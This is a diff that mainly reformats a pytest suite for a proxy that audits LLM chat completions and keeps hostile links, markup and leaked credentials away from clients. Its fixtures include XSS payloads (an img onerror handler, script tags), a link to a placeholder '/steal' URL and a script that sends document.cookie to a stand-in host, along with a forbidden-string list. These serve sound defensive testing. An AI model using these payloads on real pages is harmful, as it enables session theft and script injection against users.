@@ -27,8 +27,10 @@ ANSWER = (
     f"For the details see [the setup guide](https://{HOSTILE_HOST}/steal?c=1) today.\n\n"
     "Thanks for asking!"
 )
-MESSAGES = [{"role": "system", "content": "Be brief."},
-            {"role": "user", "content": "How do I set up Acme?"}]
+MESSAGES = [
+    {"role": "system", "content": "Be brief."},
+    {"role": "user", "content": "How do I set up Acme?"},
+]
 
 
 @pytest.fixture(scope="module")
@@ -94,10 +96,13 @@ def client(server: str, key: str, **kw) -> OpenAI:
 
 def raw_stream(server: str, key: str, timeout: float = 10):
     """A streamed completion of MESSAGES read as raw HTTP (httpx), not through the SDK."""
-    return httpx.stream("POST", f"{server}/v1/chat/completions",
-                        headers={"Authorization": f"Bearer {key}"},
-                        json={"model": "m", "messages": MESSAGES, "stream": True},
-                        timeout=timeout)
+    return httpx.stream(
+        "POST",
+        f"{server}/v1/chat/completions",
+        headers={"Authorization": f"Bearer {key}"},
+        json={"model": "m", "messages": MESSAGES, "stream": True},
+        timeout=timeout,
+    )
 
 
 # --- streaming, clean --------------------------------------------------------------------
@@ -106,12 +111,17 @@ def raw_stream(server: str, key: str, timeout: float = 10):
 def test_a_hostile_link_in_paragraph_two_never_reaches_the_client(server, upstream, key):
     upstream.enqueue(Completion(content=ANSWER, token_delay=0.002))
     raw = client(server, key).chat.completions.with_raw_response.create(
-        model="gpt-x", messages=MESSAGES, stream=True, stream_options={"include_usage": True},
+        model="gpt-x",
+        messages=MESSAGES,
+        stream=True,
+        stream_options={"include_usage": True},
         extra_body={"auditor": {"metadata": {"team": "search"}}},
     )
     audit_id = raw.headers["x-auditor-audit-id"]
     chunks = list(raw.parse())
-    deltas = [c.choices[0].delta.content for c in chunks if c.choices and c.choices[0].delta.content]
+    deltas = [
+        c.choices[0].delta.content for c in chunks if c.choices and c.choices[0].delta.content
+    ]
     assert chunks[0].choices[0].delta.role == "assistant"
     assert deltas and all(HOSTILE_HOST not in d for d in deltas)
     assert chunks[-1].usage.completion_tokens > 0  # include_usage passed through
@@ -132,29 +142,41 @@ def test_a_hostile_link_in_paragraph_two_never_reaches_the_client(server, upstre
 
 def test_paragraphs_arrive_only_once_audited_each_as_a_whole(server, upstream, key):
     upstream.enqueue(Completion(content=ANSWER, token_delay=0.001))
-    stream = client(server, key).chat.completions.create(
-        model="m", messages=MESSAGES, stream=True)
-    deltas = [c.choices[0].delta.content for c in stream if c.choices and c.choices[0].delta.content]
+    stream = client(server, key).chat.completions.create(model="m", messages=MESSAGES, stream=True)
+    deltas = [
+        c.choices[0].delta.content for c in stream if c.choices and c.choices[0].delta.content
+    ]
     # one delta per paragraph (or blank line), never a token: nothing leaves unaudited
     assert deltas[0].startswith("Acme search is easy to set up.")
     assert deltas[0].endswith("\n")
     assert len(deltas) <= 5
 
 
-async def test_the_async_client_streams_and_trace_lines_come_only_as_comments(server, upstream, key):
+async def test_the_async_client_streams_and_trace_lines_come_only_as_comments(
+    server, upstream, key
+):
     upstream.enqueue(Completion(content=ANSWER), Completion(content=ANSWER))
-    aclient = AsyncOpenAI(base_url=f"{server}/v1", api_key=key, max_retries=0,
-                          default_headers={"X-Auditor-Trace": "1"})
+    aclient = AsyncOpenAI(
+        base_url=f"{server}/v1",
+        api_key=key,
+        max_retries=0,
+        default_headers={"X-Auditor-Trace": "1"},
+    )
     stream = await aclient.chat.completions.create(model="m", messages=MESSAGES, stream=True)
-    deltas = [c.choices[0].delta.content async for c in stream
-              if c.choices and c.choices[0].delta.content]
+    deltas = [
+        c.choices[0].delta.content async for c in stream if c.choices and c.choices[0].delta.content
+    ]
     assert not any("[AUDIT]" in d for d in deltas)
     assert HOSTILE_HOST not in "".join(deltas)
-    async with httpx.AsyncClient(timeout=30) as http, http.stream(
-        "POST", f"{server}/v1/chat/completions",
-        headers={"Authorization": f"Bearer {key}", "X-Auditor-Trace": "1"},
-        json={"model": "m", "messages": MESSAGES, "stream": True},
-    ) as response:
+    async with (
+        httpx.AsyncClient(timeout=30) as http,
+        http.stream(
+            "POST",
+            f"{server}/v1/chat/completions",
+            headers={"Authorization": f"Bearer {key}", "X-Auditor-Trace": "1"},
+            json={"model": "m", "messages": MESSAGES, "stream": True},
+        ) as response,
+    ):
         body = (await response.aread()).decode()
     comments = [line for line in body.splitlines() if line.startswith(": ")]
     assert comments and all(line.startswith(": [AUDIT]") for line in comments)
@@ -163,8 +185,12 @@ async def test_the_async_client_streams_and_trace_lines_come_only_as_comments(se
 
 def test_tool_calls_arrive_intact_and_in_order(server, upstream, key):
     args = json.dumps({"query": "acme setup", "limit": 3})
-    upstream.enqueue(Completion(content="Let me look that up.",
-                                tool_calls=[{"id": "call_1", "name": "search", "arguments": args}]))
+    upstream.enqueue(
+        Completion(
+            content="Let me look that up.",
+            tool_calls=[{"id": "call_1", "name": "search", "arguments": args}],
+        )
+    )
     stream = client(server, key).chat.completions.create(model="m", messages=MESSAGES, stream=True)
     kinds, calls, finish = [], {}, None
     for chunk in stream:
@@ -189,7 +215,8 @@ def test_tool_calls_arrive_intact_and_in_order(server, upstream, key):
 def test_a_whole_completion_is_cleaned_and_stored(server, upstream, key):
     upstream.enqueue(Completion(content=ANSWER))
     raw = client(server, key).chat.completions.with_raw_response.create(
-        model="m", messages=MESSAGES, extra_body={"auditor": {"external_id": "conv-7"}})
+        model="m", messages=MESSAGES, extra_body={"auditor": {"external_id": "conv-7"}}
+    )
     completion = raw.parse()
     text = completion.choices[0].message.content
     assert HOSTILE_HOST not in text and text.startswith("Acme search")
@@ -220,7 +247,8 @@ def test_a_wrong_key_is_refused_and_nothing_is_forwarded(server, upstream):
 def test_a_bad_extension_is_a_422_in_openai_shape(server, upstream, key):
     with pytest.raises(openai.UnprocessableEntityError) as caught:
         client(server, key).chat.completions.create(
-            model="m", messages=MESSAGES, extra_body={"auditor": {"nope": 1}})
+            model="m", messages=MESSAGES, extra_body={"auditor": {"nope": 1}}
+        )
     assert "unknown keys" in caught.value.body["message"]
     assert upstream.requests == []
 
@@ -228,11 +256,13 @@ def test_a_bad_extension_is_a_422_in_openai_shape(server, upstream, key):
 # --- faults ------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("status", "error"), [(429, openai.RateLimitError),
-                                               (500, openai.InternalServerError)])
+@pytest.mark.parametrize(
+    ("status", "error"), [(429, openai.RateLimitError), (500, openai.InternalServerError)]
+)
 @pytest.mark.parametrize("stream", [False, True])
-def test_upstream_errors_keep_a_4xx_status_and_become_our_own_answer(server, upstream, key,
-                                                                     status, error, stream):
+def test_upstream_errors_keep_a_4xx_status_and_become_our_own_answer(
+    server, upstream, key, status, error, stream
+):
     upstream.enqueue(Completion(status=status, headers={"Retry-After": "7"}))
     with pytest.raises(openai.APIStatusError) as caught:
         client(server, key).chat.completions.create(model="m", messages=MESSAGES, stream=stream)
@@ -270,7 +300,9 @@ def test_an_upstream_that_stops_mid_stream_ends_with_a_timeout_frame(server, ups
     assert error["message"] == "the upstream stopped sending"
 
 
-def test_a_client_that_disconnects_cancels_upstream_and_the_audit_is_incomplete(server, upstream, key):
+def test_a_client_that_disconnects_cancels_upstream_and_the_audit_is_incomplete(
+    server, upstream, key
+):
     upstream.enqueue(Completion(content=ANSWER, pause_after=20, pause=20))
     with raw_stream(server, key) as response:
         audit_id = response.headers["x-auditor-audit-id"]
@@ -281,7 +313,6 @@ def test_a_client_that_disconnects_cancels_upstream_and_the_audit_is_incomplete(
     run = finished(audit_id)
     assert run.incomplete
     assert run.response.startswith("Acme search is easy")
-
 
 
 @pytest.mark.parametrize("stream", [True, False])
@@ -315,9 +346,16 @@ async def test_a_client_that_leaves_once_it_has_the_whole_answer_leaves_a_comple
             gone.set()  # the client has it all and leaves ...
             await asyncio.sleep(0.2)  # ... while this send is still under way
 
-    scope = {"type": "http", "method": "POST", "path": "/v1/chat/completions",
-             "query_string": b"", "headers": [(b"authorization", f"Bearer {key}".encode()),
-                                              (b"content-type", b"application/json")]}
+    scope = {
+        "type": "http",
+        "method": "POST",
+        "path": "/v1/chat/completions",
+        "query_string": b"",
+        "headers": [
+            (b"authorization", f"Bearer {key}".encode()),
+            (b"content-type", b"application/json"),
+        ],
+    }
     await asyncio.wait_for(proxy_endpoint(scope, receive, send), 30)
     audit_id = dict(sent[0]["headers"])[b"x-auditor-audit-id"].decode()
     run = await sync_to_async(finished)(audit_id)
@@ -336,7 +374,12 @@ def test_observe_mode_streams_the_upstream_bytes_unchanged(server, upstream, key
         audit_id = response.headers["x-auditor-audit-id"]
     assert body == b"".join(stream_frames(Completion(content=ANSWER), {"stream": True}))
     run = finished(audit_id)
-    assert (run.status, run.error, run.incomplete, run.response) == ("complete", "", False, ANSWER), run.cleaned_response
+    assert (run.status, run.error, run.incomplete, run.response) == (
+        "complete",
+        "",
+        False,
+        ANSWER,
+    ), run.cleaned_response
     assert HOSTILE_HOST not in run.cleaned_response
     assert run.metadata["proxy"]["mode"] == "observe"
 
@@ -387,10 +430,19 @@ LINK = f"[the guide](https://{HOSTILE_HOST}/steal)"
 HANDLER = f'<img src="https://{HOSTILE_HOST}/p.png" onerror="alert(1)">'
 HOSTILE = f"{LINK} {HANDLER}"
 FORBIDDEN = [HOSTILE_HOST, "onerror", "<img", "<script", "javascript:", UPSTREAM_KEY, "echoed"]
-KNOWN = {"top": {"id", "object", "created", "model", "system_fingerprint", "usage", "choices"},
-         "choice": {"index", "delta", "message", "logprobs", "finish_reason"},
-         "delta": {"role", "content", "refusal", "reasoning_content", "reasoning", "tool_calls",
-                   "function_call"}}
+KNOWN = {
+    "top": {"id", "object", "created", "model", "system_fingerprint", "usage", "choices"},
+    "choice": {"index", "delta", "message", "logprobs", "finish_reason"},
+    "delta": {
+        "role",
+        "content",
+        "refusal",
+        "reasoning_content",
+        "reasoning",
+        "tool_calls",
+        "function_call",
+    },
+}
 
 
 class Recording(httpx.HTTPTransport):
@@ -431,8 +483,7 @@ def assert_nothing_hostile(raw: bytes) -> None:
 
 def data_frames(raw: bytes) -> list[dict]:
     body = raw.decode()
-    return [json.loads(line[6:]) for line in body.splitlines()
-            if line.startswith("data: {")]
+    return [json.loads(line[6:]) for line in body.splitlines() if line.startswith("data: {")]
 
 
 def assert_known_fields(payload: dict) -> None:
@@ -446,11 +497,18 @@ def sse(data: dict) -> bytes:
     return b"data: " + json.dumps(data).encode() + b"\n\n"
 
 
-BASE = {"id": "chatcmpl-h", "object": "chat.completion.chunk", "created": 1, "model": "upstream-model"}
+BASE = {
+    "id": "chatcmpl-h",
+    "object": "chat.completion.chunk",
+    "created": 1,
+    "model": "upstream-model",
+}
 
 
 def chunk(delta: dict, finish: str | None = None, **extra) -> bytes:
-    return sse({**BASE, **extra, "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]})
+    return sse(
+        {**BASE, **extra, "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}
+    )
 
 
 def hostile_stream():
@@ -458,31 +516,67 @@ def hostile_stream():
     yield chunk({"reasoning_content": f"I think {HOSTILE} fits.\n\n"})
     yield chunk({"reasoning": f"Also {HOSTILE} here.\n\n", "annotations": [{"url": LINK}]})
     yield chunk({"content": "Acme is easy to set up.\n\n"})
-    yield sse({**BASE, "choices": [{"index": 0, "delta": {"content": "See "},
-                                    "message": {"content": HOSTILE}, "text": HOSTILE,
-                                    "logprobs": {"content": [{"token": HANDLER}]}}]})
+    yield sse(
+        {
+            **BASE,
+            "choices": [
+                {
+                    "index": 0,
+                    "delta": {"content": "See "},
+                    "message": {"content": HOSTILE},
+                    "text": HOSTILE,
+                    "logprobs": {"content": [{"token": HANDLER}]},
+                }
+            ],
+        }
+    )
     yield sse({**BASE, "choices": [{"index": 1, "delta": {"content": HOSTILE}}]})
     yield chunk({"content": f"{LINK} today.\n\n", "audio": {"transcript": HOSTILE}})
-    yield chunk({"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
-                                 "function": {"name": "search", "arguments": '{"q": "acme"}'},
-                                 "extra": HOSTILE}]})
+    yield chunk(
+        {
+            "tool_calls": [
+                {
+                    "index": 0,
+                    "id": "call_1",
+                    "type": "function",
+                    "function": {"name": "search", "arguments": '{"q": "acme"}'},
+                    "extra": HOSTILE,
+                }
+            ]
+        }
+    )
     yield chunk({"refusal": f"I cannot {HOSTILE} do more."})
     yield chunk({}, "<script>alert(1)</script>", system_fingerprint=HANDLER)
-    yield sse({"id": f"https://{HOSTILE_HOST}/id", "object": "chat.completion.chunk",
-               "created": 1, "model": HANDLER, "choices": [], "note": HOSTILE,
-               "usage": {"prompt_tokens": 1, "completion_tokens": 9, "total_tokens": 10,
-                         "links": HOSTILE, "completion_tokens_details": {"x": HOSTILE}}})
+    yield sse(
+        {
+            "id": f"https://{HOSTILE_HOST}/id",
+            "object": "chat.completion.chunk",
+            "created": 1,
+            "model": HANDLER,
+            "choices": [],
+            "note": HOSTILE,
+            "usage": {
+                "prompt_tokens": 1,
+                "completion_tokens": 9,
+                "total_tokens": 10,
+                "links": HOSTILE,
+                "completion_tokens_details": {"x": HOSTILE},
+            },
+        }
+    )
     yield b"data: [DONE]\n\n"
 
 
 @pytest.mark.parametrize("extra_text", ["audit", "drop"])
 def test_a_hostile_stream_reaches_the_client_only_as_audited_text_in_known_fields(
-        server, upstream, key, extra_text):
+    server, upstream, key, extra_text
+):
     configure(upstream, extra_text=extra_text)
     upstream.enqueue(Completion(frames=hostile_stream))
     sdk, transport = recording_client(server, key)
     raw = sdk.chat.completions.with_raw_response.create(
-        model="m", messages=MESSAGES, stream=True, stream_options={"include_usage": True})
+        model="m", messages=MESSAGES, stream=True, stream_options={"include_usage": True}
+    )
     chunks = list(raw.parse())  # the SDK reads every frame
     assert chunks[-1].usage.completion_tokens == 9
     assert_nothing_hostile(bytes(transport.raw))
@@ -490,56 +584,98 @@ def test_a_hostile_stream_reaches_the_client_only_as_audited_text_in_known_field
     for frame in frames:
         assert_known_fields(frame)
     deltas = [f["choices"][0]["delta"] for f in frames if f["choices"]]
-    text = {name: "".join(d.get(name) or "" for d in deltas)
-            for name in ("content", "refusal", "reasoning_content", "reasoning")}
+    text = {
+        name: "".join(d.get(name) or "" for d in deltas)
+        for name in ("content", "refusal", "reasoning_content", "reasoning")
+    }
     assert text["content"].startswith("Acme is easy to set up.") and "today." in text["content"]
     calls = [c for d in deltas for c in d.get("tool_calls") or []]
-    assert calls == [{"index": 0, "id": "call_1", "type": "function",
-                      "function": {"name": "search", "arguments": '{"q": "acme"}'}}]
+    assert calls == [
+        {
+            "index": 0,
+            "id": "call_1",
+            "type": "function",
+            "function": {"name": "search", "arguments": '{"q": "acme"}'},
+        }
+    ]
     assert [f["choices"][0]["finish_reason"] for f in frames if f["choices"]][-1] == "stop"
     run = finished(raw.headers["x-auditor-audit-id"])
     assert run.status == "complete"
     assert run.metadata["proxy"]["tool_calls"][0]["arguments"] == '{"q": "acme"}'
     fields = run.metadata["proxy"]["text_fields"]
     if extra_text == "audit":  # audited as text the client sees, and stored
-        assert text["refusal"].startswith("I cannot") and text["reasoning_content"].startswith("I think")
+        assert text["refusal"].startswith("I cannot") and text["reasoning_content"].startswith(
+            "I think"
+        )
         assert text["reasoning"].startswith("Also")
         assert "I cannot" in run.response and HOSTILE_HOST in run.response
         assert "I cannot" in run.cleaned_response
-        assert fields == {"audited": ["reasoning_content", "reasoning", "content", "refusal"],
-                          "dropped": []}
+        assert fields == {
+            "audited": ["reasoning_content", "reasoning", "content", "refusal"],
+            "dropped": [],
+        }
     else:
         assert not (text["refusal"] or text["reasoning_content"] or text["reasoning"])
         assert "I cannot" not in run.response and "I think" not in run.response
-        assert fields == {"audited": ["content"],
-                          "dropped": ["reasoning_content", "reasoning", "refusal"]}
+        assert fields == {
+            "audited": ["content"],
+            "dropped": ["reasoning_content", "reasoning", "refusal"],
+        }
 
 
 def hostile_completion() -> bytes:
-    return json.dumps({
-        "id": "chatcmpl-w", "object": "chat.completion", "created": 1, "model": HANDLER,
-        "links": [LINK], "service_tier": HOSTILE,
-        "choices": [
-            {"index": 0, "finish_reason": "tool_calls", "logprobs": {"content": [{"token": HOSTILE}]},
-             "message": {"role": "assistant", "refusal": f"I cannot {HOSTILE} do that.",
-                         "content": [{"type": "text", "text": "Acme is easy to set up.\n\n"},
-                                     {"type": "text", "text": f"See {LINK} now."},
-                                     {"type": "image_url", "image_url": {"url": f"https://{HOSTILE_HOST}/i.png"}}],
-                         "reasoning_content": f"Think {HOSTILE}.",
-                         "annotations": [{"type": "url_citation", "url_citation": {"url": LINK}}],
-                         "audio": {"data": HOSTILE},
-                         "tool_calls": [{"id": "call_9", "type": "function", "x": HOSTILE,
-                                         "function": {"name": "lookup", "arguments": '{"id": 7}'}}]}},
-            {"index": 1, "finish_reason": "stop",
-             "message": {"role": "assistant", "content": HOSTILE}},
-        ],
-        "usage": {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7},
-    }).encode()
+    return json.dumps(
+        {
+            "id": "chatcmpl-w",
+            "object": "chat.completion",
+            "created": 1,
+            "model": HANDLER,
+            "links": [LINK],
+            "service_tier": HOSTILE,
+            "choices": [
+                {
+                    "index": 0,
+                    "finish_reason": "tool_calls",
+                    "logprobs": {"content": [{"token": HOSTILE}]},
+                    "message": {
+                        "role": "assistant",
+                        "refusal": f"I cannot {HOSTILE} do that.",
+                        "content": [
+                            {"type": "text", "text": "Acme is easy to set up.\n\n"},
+                            {"type": "text", "text": f"See {LINK} now."},
+                            {
+                                "type": "image_url",
+                                "image_url": {"url": f"https://{HOSTILE_HOST}/i.png"},
+                            },
+                        ],
+                        "reasoning_content": f"Think {HOSTILE}.",
+                        "annotations": [{"type": "url_citation", "url_citation": {"url": LINK}}],
+                        "audio": {"data": HOSTILE},
+                        "tool_calls": [
+                            {
+                                "id": "call_9",
+                                "type": "function",
+                                "x": HOSTILE,
+                                "function": {"name": "lookup", "arguments": '{"id": 7}'},
+                            }
+                        ],
+                    },
+                },
+                {
+                    "index": 1,
+                    "finish_reason": "stop",
+                    "message": {"role": "assistant", "content": HOSTILE},
+                },
+            ],
+            "usage": {"prompt_tokens": 3, "completion_tokens": 4, "total_tokens": 7},
+        }
+    ).encode()
 
 
 @pytest.mark.parametrize("extra_text", ["audit", "drop"])
 def test_a_hostile_whole_completion_reaches_the_client_only_as_audited_text_in_known_fields(
-        server, upstream, key, extra_text):
+    server, upstream, key, extra_text
+):
     configure(upstream, extra_text=extra_text)
     upstream.enqueue(Completion(body=hostile_completion()))
     sdk, transport = recording_client(server, key)
@@ -552,9 +688,15 @@ def test_a_hostile_whole_completion_reaches_the_client_only_as_audited_text_in_k
     message = body["choices"][0]["message"]
     assert [p["type"] for p in message["content"]] == ["text", "text"]
     assert message["content"][0]["text"].startswith("Acme is easy to set up.")
-    assert message["content"][1]["text"].startswith("See") and "now." in message["content"][1]["text"]
+    assert (
+        message["content"][1]["text"].startswith("See") and "now." in message["content"][1]["text"]
+    )
     call = completion.choices[0].message.tool_calls[0]
-    assert (call.id, call.function.name, call.function.arguments) == ("call_9", "lookup", '{"id": 7}')
+    assert (call.id, call.function.name, call.function.arguments) == (
+        "call_9",
+        "lookup",
+        '{"id": 7}',
+    )
     assert completion.model == "m"  # the upstream's was markup: the one asked for instead
     run = finished(raw.headers["x-auditor-audit-id"])
     assert run.status == "complete"
@@ -592,14 +734,30 @@ def test_a_mid_stream_upstream_error_becomes_our_own_error_event(server, upstrea
 
 
 @pytest.mark.parametrize("stream", [False, True])
-@pytest.mark.parametrize(("reply", "status", "message"), [
-    (Completion(status=401, echo_credentials=True), 401, "the upstream refused the request (401)"),
-    (Completion(status=500, content_type="text/html",
+@pytest.mark.parametrize(
+    ("reply", "status", "message"),
+    [
+        (
+            Completion(status=401, echo_credentials=True),
+            401,
+            "the upstream refused the request (401)",
+        ),
+        (
+            Completion(
+                status=500,
+                content_type="text/html",
                 body=f"<html><script>fetch('https://{HOSTILE_HOST}/'+document.cookie)</script>"
-                     f"{UPSTREAM_KEY}</html>".encode()), 502, "the upstream failed (500)"),
-], ids=["echoes-credentials", "html-page"])
-def test_an_upstream_error_body_is_never_relayed(server, upstream, key, reply, status, message,
-                                                 stream):
+                f"{UPSTREAM_KEY}</html>".encode(),
+            ),
+            502,
+            "the upstream failed (500)",
+        ),
+    ],
+    ids=["echoes-credentials", "html-page"],
+)
+def test_an_upstream_error_body_is_never_relayed(
+    server, upstream, key, reply, status, message, stream
+):
     upstream.enqueue(reply)
     sdk, transport = recording_client(server, key)
     with pytest.raises(openai.APIStatusError) as caught:
@@ -614,10 +772,26 @@ def test_an_upstream_error_body_is_never_relayed(server, upstream, key, reply, s
 
 def test_models_are_cut_to_their_ids_and_a_models_error_is_our_own(server, upstream, key):
     sdk, transport = recording_client(server, key)
-    upstream.models = Completion(body=json.dumps({"object": "list", "links": LINK, "data": [
-        {"id": "gpt-good", "object": "model", "created": 5, "owned_by": "acme", "x": HOSTILE},
-        {"id": HANDLER, "object": "model"}, {"id": f"https://{HOSTILE_HOST}/m"},
-        {"id": HOSTILE_HOST}]}).encode())
+    upstream.models = Completion(
+        body=json.dumps(
+            {
+                "object": "list",
+                "links": LINK,
+                "data": [
+                    {
+                        "id": "gpt-good",
+                        "object": "model",
+                        "created": 5,
+                        "owned_by": "acme",
+                        "x": HOSTILE,
+                    },
+                    {"id": HANDLER, "object": "model"},
+                    {"id": f"https://{HOSTILE_HOST}/m"},
+                    {"id": HOSTILE_HOST},
+                ],
+            }
+        ).encode()
+    )
     try:
         assert [m.id for m in sdk.models.list()] == ["gpt-good"]
         upstream.models = Completion(status=403, echo_credentials=True)
@@ -639,10 +813,18 @@ def test_frames_held_behind_unaudited_text_are_bounded_in_memory(served, upstrea
         yield chunk({"role": "assistant", "content": "Acme is easy"})
         for i in range(500):
             yield chunk({}, padding=pad)
-            yield chunk({"tool_calls": [{"index": 0, "id": "call_1" if i == 0 else None,
-                                         "type": "function", "function": {
-                                             "name": "save" if i == 0 else None,
-                                             "arguments": pad}}]})
+            yield chunk(
+                {
+                    "tool_calls": [
+                        {
+                            "index": 0,
+                            "id": "call_1" if i == 0 else None,
+                            "type": "function",
+                            "function": {"name": "save" if i == 0 else None, "arguments": pad},
+                        }
+                    ]
+                }
+            )
         yield chunk({"content": " to set up.\n\n"})
         yield chunk({}, "tool_calls")
         yield b"data: [DONE]\n\n"
@@ -657,18 +839,21 @@ def test_frames_held_behind_unaudited_text_are_bounded_in_memory(served, upstrea
             if line.startswith("data: {"):
                 choices = json.loads(line[6:]).get("choices") or [{}]
                 delta = choices[0].get("delta") or {}
-                order.append("text" if delta.get("content") else "tool" if delta.get("tool_calls") else "")
+                order.append(
+                    "text" if delta.get("content") else "tool" if delta.get("tool_calls") else ""
+                )
                 assert delta.get("tool_calls") or len(line) < 2000  # no padding reached the client
     assert peak - before < 40_000, (before, peak)
     # the text was audited and sent once the held frames passed the bound, not at the end
     first_text = order.index("text")
-    assert order[first_text + 1:].count("tool") > 400
+    assert order[first_text + 1 :].count("tool") > 400
     run = finished(audit_id)
     assert run.status == "complete" and run.response.startswith("Acme is easy")
 
 
 def test_a_stream_over_its_total_time_ends_with_an_error_and_its_audit_is_stored(
-        upstream, key, tmp_path):
+    upstream, key, tmp_path
+):
     port = free_port()
     proc = start_server(port, tmp_path / "server.log", AUDITOR_STREAM_MAX_S="2", **SERVER_ENV)
     try:
